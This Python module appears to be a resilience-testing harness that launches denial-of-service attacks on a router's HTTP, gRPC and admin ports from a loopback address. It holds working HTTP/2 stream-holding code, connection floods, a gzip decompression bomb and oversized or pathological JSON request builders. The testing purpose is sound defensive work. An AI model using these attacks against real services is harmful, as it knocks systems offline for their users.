"""What a stranger can do to one router, from an address of its own: `python -m bench.attacks NAME`.

    python -m bench.attacks NAME --http HOST:PORT --grpc HOST:PORT --admin HOST:PORT

Each goes on until it is ended. It prints a line when it is under way. Loopback has many addresses:
the attacker's is 127.0.0.9, so that shares by address can be told from bounds on all.
"""

from __future__ import annotations

import argparse
import contextlib
import gzip
import json
import selectors
import socket
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from tests.http2 import (
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    call,
    frame,
    opening,
)

ATTACKER: Final = "127.0.0.9"
MIB: Final = 1 << 20
SMALL_PAUSE_SECONDS: Final = 0.01

INITIAL_WINDOW: Final = 65_535
SETTINGS_INITIAL_WINDOW: Final = 4
ACK: Final = 0x1
ADDRESS = tuple[str, int]

PIPELINE: Final = b"/quorate.v1.QuorateService/Pipeline"
PUT_ITEM: Final = b"/quorate.v1.QuorateService/PutItem"
HEALTH_WATCH: Final = b"/grpc.health.v1.Health/Watch"


@dataclass(frozen=True, slots=True)
class Target:
    """A router's faces."""

    http: ADDRESS
    grpc: ADDRESS
    admin: ADDRESS


Attack = Callable[[Target, Callable[[], None]], None]
"""Attacks until ended; calls its second argument when it is under way."""


def connect(address: ADDRESS, source: str = ATTACKER) -> socket.socket:
    """Return a connection from the attacker's address."""
    return socket.create_connection(address, timeout=10, source_address=(source, 0))


# --- gRPC ------------------------------------------------------------------------------------


class Unending:
    """A connection of streams, each with a message that is announced and lacks its last byte."""

    def __init__(self, address: ADDRESS, path: bytes, streams: int, announced: int) -> None:
        """Open them; `announced` 0 sends no message."""
        self._socket = connect(address)
        self._socket.sendall(opening())
        self._buffer = b""
        self._connection_window = INITIAL_WINDOW
        self._initial_window = INITIAL_WINDOW
        self._windows: dict[int, int] = {}
        self._left: dict[int, int] = {}
        self._prefix: dict[int, bytes] = {}
        self.ended = 0
        block = call(path)
        for stream in range(1, 2 * streams, 2):
            self._socket.sendall(frame(HEADERS, END_HEADERS, stream, block))
            self._windows[stream] = self._initial_window
            if announced:
                self._prefix[stream] = b"\0" + struct.pack(">I", announced)
                self._left[stream] = announced + 4  # all but one byte
        self._socket.settimeout(SMALL_PAUSE_SECONDS)

    def step(self) -> bool:
        """Read what has come and send what may go; return whether the connection is open."""
        try:
            with contextlib.suppress(TimeoutError):
                part = self._socket.recv(MIB)
                if not part:
                    return False
                self._buffer += part
            self._take_frames()
            self._socket.settimeout(10)
            for stream in list(self._left):
                self._send(stream)
            self._socket.settimeout(SMALL_PAUSE_SECONDS)
        except OSError:
            return False
        return True

    def _take_frames(self) -> None:
        while len(self._buffer) >= 9:
            size = int.from_bytes(self._buffer[:3], "big")
            if len(self._buffer) < 9 + size:
                return
            kind, flags = self._buffer[3], self._buffer[4]
            stream = int.from_bytes(self._buffer[5:9], "big") & 0x7FFFFFFF
            self._take(kind, flags, stream, self._buffer[9 : 9 + size])
            self._buffer = self._buffer[9 + size :]

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == WINDOW_UPDATE:
            size = int.from_bytes(payload, "big")
            if not stream:
                self._connection_window += size
            elif stream in self._windows:
                self._windows[stream] += size
        elif kind == SETTINGS and not flags & ACK:
            for place in range(0, len(payload), 6):
                key, value = struct.unpack_from(">HI", payload, place)
                if key == SETTINGS_INITIAL_WINDOW:
                    for each in self._windows:
                        self._windows[each] += value - self._initial_window
                    self._initial_window = value
            self._socket.sendall(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self._socket.sendall(frame(PING, ACK, 0, payload))
        elif kind in (HEADERS, RST_STREAM) and self._left.pop(stream, None) is not None:
            self.ended += 1

    def _send(self, stream: int) -> None:
        while self._left.get(stream) and self._connection_window > 0 and self._windows[stream] > 0:
            size = min(self._left[stream], self._connection_window, self._windows[stream], 16_384)
            begin = self._prefix.pop(stream, b"")
            self._socket.sendall(frame(DATA, 0, stream, begin + bytes(size - len(begin))))
            self._left[stream] -= size
            self._connection_window -= size
            self._windows[stream] -= size

    def close(self) -> None:
        """Leave."""
        self._socket.close()


def hold_streams(path: bytes, connections: int, streams: int, announced: int) -> Attack:
    """Return an attack that opens streams, and opens them again when they are ended."""

    def attack(target: Target, under_way: Callable[[], None]) -> None:
        held = [Unending(target.grpc, path, streams, announced) for _ in range(connections)]
        begun = time.monotonic()
        told = False
        while True:
            for place, each in enumerate(held):
                if not each.step() or (announced and each.ended >= streams):
                    each.close()
                    with contextlib.suppress(OSError):
                        held[place] = Unending(target.grpc, path, streams, announced)
            if not told and time.monotonic() - begun > 1.0:
                told = True
                under_way()
            time.sleep(SMALL_PAUSE_SECONDS)

    return attack


# --- HTTP ------------------------------------------------------------------------------------


def request(operation: str, body: bytes, length: int = -1, *more: str) -> bytes:
    """Return a call over HTTP that announces `length` bytes, by default those of its body."""
    lines = (
        "POST / HTTP/1.1",
        "Host: router",
        f"X-Amz-Target: DynamoDB_20120810.{operation}",
        "Content-Type: application/x-amz-json-1.0",
        f"Content-Length: {len(body) if length < 0 else length}",
        *more,
    )
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def repeat(raw: bytes, connections: int = 1) -> Attack:
    """Return an attack that sends one request again and again, on some connections at a time."""

    def attack(target: Target, under_way: Callable[[], None]) -> None:
        selector = selectors.DefaultSelector()

        def begin() -> None:
            with contextlib.suppress(OSError):
                each = connect(target.http)
                selector.register(each, selectors.EVENT_READ)
                each.sendall(raw)

        for _ in range(connections):
            begin()
        under_way()
        while True:
            if not selector.get_map():
                time.sleep(SMALL_PAUSE_SECONDS)
            for key, _ in selector.select(1.0):
                connection = key.fileobj
                assert isinstance(connection, socket.socket)
                try:
                    answer = connection.recv(MIB)
                    if answer and b"Connection: close" not in answer:
                        connection.sendall(raw)
                        continue
                except OSError:
                    pass
                selector.unregister(connection)
                connection.close()
            while len(selector.get_map()) < connections:
                time.sleep(SMALL_PAUSE_SECONDS)
                begin()

    return attack


def hold_connections(which: str, number: int, first: bytes = b"") -> Attack:
    """Return an attack that opens connections to a face and keeps them, saying `first` at most."""

    def attack(target: Target, under_way: Callable[[], None]) -> None:
        address: ADDRESS = getattr(target, which)
        held: list[socket.socket] = []
        told = False
        while True:
            while len(held) < number:
                try:
                    each = connect(address)
                    each.sendall(first)
                except OSError:
                    break
                each.settimeout(0)
                held.append(each)
            if not told:
                told = True
                under_way()
            time.sleep(0.2)
            still: list[socket.socket] = []
            for each in held:
                try:
                    is_open = each.recv(4096) != b""
                except BlockingIOError:
                    is_open = True
                except OSError:
                    is_open = False
                if is_open:
                    still.append(each)
                else:
                    each.close()
            held = still

    return attack


def _unending_body() -> bytes:
    return request("BatchWriteItem", b"", 16 * MIB) + bytes(16 * MIB - 1)


def _bomb() -> bytes:
    text = b'{"TableName":"attacked","x":[' + b"{}," * (16 * MIB // 3) + b"{}]}"
    return request("PutItem", gzip.compress(text), -1, "Content-Encoding: gzip")


def _objects() -> bytes:
    return request(
        "PutItem", b'{"TableName":"attacked","x":[' + b"{}," * (4 * MIB // 3 - 20) + b"{}]}"
    )


def _escapes() -> bytes:
    text = b'{"TableName":"attacked","x":"' + b"\\u003a" * (4 * MIB // 6 - 20) + b'"}'
    return request("PutItem", text)


def _number_set() -> bytes:
    numbers = ",".join(f'"{number}"' for number in range(400_000))
    text = f'{{"TableName":"attacked","Item":{{"id":{{"S":"1"}},"n":{{"NS":[{numbers}]}}}}}}'
    return request("PutItem", text.encode())


def _legal_batch() -> bytes:
    puts = [
        {"PutRequest": {"Item": {"id": {"S": str(n)}, "v": {"L": [{"N": "1"}] * 20_000}}}}
        for n in range(25)
    ]
    return request("BatchWriteItem", json.dumps({"RequestItems": {"attacked": puts}}).encode())


ATTACKS: Final[dict[str, Callable[[], Attack]]] = {
    "grpc-messages": lambda: hold_streams(PUT_ITEM, 1, 60, 4 * MIB),
    "grpc-pipeline-messages": lambda: hold_streams(PIPELINE, 1, 60, 4 * MIB),
    "grpc-watches": lambda: hold_streams(HEALTH_WATCH, 5, 1_024, 0),
    "grpc-pipelines": lambda: hold_streams(PIPELINE, 5, 1_024, 0),
    "grpc-connections": lambda: hold_connections("grpc", 4_200, opening()),
    "http-gzip": lambda: repeat(_bomb()),
    "http-objects": lambda: repeat(_objects()),
    "http-escapes": lambda: repeat(_escapes()),
    "http-number-set": lambda: repeat(_number_set()),
    "http-legal-batch": lambda: repeat(_legal_batch()),
    "http-bodies": lambda: hold_connections("http", 32, _unending_body()),
    "http-connections": lambda: hold_connections("http", 8_192),
    "admin-connections": lambda: hold_connections("admin", 64),
}


def main() -> None:
    """Attack until ended."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else "")
    parser.add_argument("name", choices=ATTACKS)
    for face in ("http", "grpc", "admin"):
        parser.add_argument(f"--{face}", required=True)
    given = parser.parse_args()

    def address(text: str) -> ADDRESS:
        host, _, port = text.rpartition(":")
        return host, int(port)

    target = Target(address(given.http), address(given.grpc), address(given.admin))
    ATTACKS[given.name]()(target, lambda: print("under way", flush=True))


if __name__ == "__main__":
    main()
